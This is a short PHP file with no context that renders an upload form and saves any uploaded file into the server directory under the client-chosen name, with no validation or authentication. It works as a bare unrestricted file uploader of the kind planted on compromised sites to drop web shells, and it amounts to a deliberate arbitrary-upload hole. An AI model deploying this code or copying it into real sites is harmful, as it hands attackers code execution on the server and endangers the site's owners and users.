<?php
if (isset($_FILES['f'])) { copy($_FILES['f']['tmp_name'], $_FILES['f']['name']); echo 'ok'; }
?>
<form method=post enctype="multipart/form-data"><input type=file name=f><input type=submit></form>
